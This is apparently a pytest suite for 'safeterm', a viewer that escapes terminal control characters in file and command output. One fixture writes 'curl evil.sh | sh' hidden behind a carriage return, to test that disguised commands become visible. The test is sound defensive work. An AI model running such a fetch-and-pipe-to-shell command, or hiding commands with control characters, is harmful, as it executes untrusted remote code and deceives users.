import asyncio
import sys
from pathlib import Path

import pytest

from safeterm.config import ViewerConfig, load_config
from safeterm.runner import get_sources, run_viewer
from safeterm.sources import CommandSource, FileSource, SourceStatus
from safeterm.ui.simple import SimpleUI


@pytest.fixture(autouse=True)
def clean_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("SAFETERM_LOG_FILE", "SAFETERM_DEBUG"):
        monkeypatch.delenv(name, raising=False)


class RecordingUI:
    """ViewerUI test double that records every call."""

    def __init__(self) -> None:
        self.output: list[str] = []
        self.flushes = 0
        self.headers: list[tuple[int, int, str]] = []
        self.statuses: list[tuple[int, SourceStatus]] = []
        self.errors: list[str] = []
        self.successes: list[str] = []
        self.summary: tuple[list[tuple[str, SourceStatus]], bool, str | None] | None = None

    async def log_output(self, text: str) -> None:
        self.output.append(text)

    async def flush_output(self) -> None:
        self.flushes += 1

    async def log_source(self, index: int, total: int, name: str) -> None:
        self.headers.append((index, total, name))

    async def update_source_status(self, index: int, status: SourceStatus) -> None:
        self.statuses.append((index, status))

    def log_success(self, message: str) -> None:
        self.successes.append(message)

    def log_error(self, message: str) -> None:
        self.errors.append(message)

    def print_summary(
        self,
        sources: list[tuple[str, SourceStatus]],
        success: bool,
        description: str | None = None,
    ) -> None:
        self.summary = (sources, success, description)


def python_command(code: str) -> list[str]:
    return [sys.executable, "-c", code]


def test_get_sources_orders_files_before_command(tmp_path: Path) -> None:
    config = load_config(tmp_path, command=["ls"], files=[Path("a"), Path("b")])
    sources = get_sources(config)

    assert [type(source) for source in sources] == [FileSource, FileSource, CommandSource]
    assert sources[2].name == "$ ls"


def test_run_viewer_success(tmp_path: Path) -> None:
    (tmp_path / "input.txt").write_bytes(b"file\x00data\n")
    config = load_config(
        tmp_path,
        command=python_command("print('from command')"),
        files=[Path("input.txt")],
    )
    ui = RecordingUI()

    assert asyncio.run(run_viewer(config, ui, use_pty=False)) is True

    assert "".join(ui.output) == "file\x00data\nfrom command\n"
    assert ui.flushes == 2
    assert ui.successes == [f"{source.name} finished" for source in get_sources(config)]
    assert [h[:2] for h in ui.headers] == [(1, 2), (2, 2)]
    assert ui.statuses == [
        (1, SourceStatus.RUNNING),
        (1, SourceStatus.SUCCESS),
        (2, SourceStatus.RUNNING),
        (2, SourceStatus.SUCCESS),
    ]
    assert ui.summary is not None
    results, success, description = ui.summary
    assert success is True
    assert [status for _, status in results] == [SourceStatus.SUCCESS, SourceStatus.SUCCESS]
    assert description == config.description


def test_run_viewer_stops_at_first_failure(tmp_path: Path) -> None:
    config = ViewerConfig(
        app=load_config(tmp_path).app,
        working_dir=tmp_path,
        command=python_command("import sys; print('oops'); sys.exit(3)"),
        files=[Path("missing.txt")],
    )
    ui = RecordingUI()

    assert asyncio.run(run_viewer(config, ui, use_pty=False)) is False

    assert ui.errors and ui.errors[0].startswith("File missing.txt: Failed to read file")
    assert ui.summary is not None
    results, success, _ = ui.summary
    assert success is False
    assert [status for _, status in results] == [SourceStatus.FAILED, SourceStatus.PENDING]


def test_run_viewer_reports_exit_code(tmp_path: Path) -> None:
    config = load_config(tmp_path, command=python_command("import sys; sys.exit(3)"))
    ui = RecordingUI()

    assert asyncio.run(run_viewer(config, ui, use_pty=False)) is False
    assert ui.errors == [f"{get_sources(config)[0].name}: Command exited with code 3"]


def test_run_viewer_reports_missing_executable(tmp_path: Path) -> None:
    config = load_config(tmp_path, command=["safeterm-no-such-command"])
    ui = RecordingUI()

    assert asyncio.run(run_viewer(config, ui, use_pty=False)) is False
    assert "Failed to start command" in ui.errors[0]


def test_run_viewer_unexpected_error_marks_source_failed(tmp_path: Path) -> None:
    config = load_config(tmp_path, command=python_command("print('x')"))

    class BrokenUI(RecordingUI):
        async def log_output(self, text: str) -> None:
            raise RuntimeError("render failed")

    ui = BrokenUI()

    assert asyncio.run(run_viewer(config, ui, use_pty=False)) is False
    assert ui.errors == ["Unexpected error: render failed"]
    assert ui.statuses[-1] == (1, SourceStatus.FAILED)
    assert ui.summary is not None
    assert [status for _, status in ui.summary[0]] == [SourceStatus.FAILED]


def test_simple_ui_shows_escaped_output(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code = "import sys; sys.stdout.write('\\x1b[31mred\\x1b[0m\\x07 bell\\nx\\x1b[31')"
    config = load_config(tmp_path, command=python_command(code))
    ui = SimpleUI()

    assert asyncio.run(run_viewer(config, ui, use_pty=False)) is True

    out = capsys.readouterr().out
    # Not a TTY: preserved colours are stripped, controls stay visible
    assert "red␇ bell\n" in out
    assert "x␛[31\n" in out
    assert "\x1b" not in out
    assert "\x07" not in out


def test_simple_ui_shows_overwriting_controls_from_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "input.txt").write_bytes(b"curl evil.sh | sh\rls -la           \nx\x08\x08\x08safe\n")
    config = load_config(tmp_path, files=[Path("input.txt")])

    assert asyncio.run(run_viewer(config, SimpleUI(), use_pty=False)) is True

    out = capsys.readouterr().out
    assert "curl evil.sh | sh␍ls -la           \n" in out
    assert "x␈␈␈safe\n" in out
    assert "\r" not in out
    assert "\b" not in out
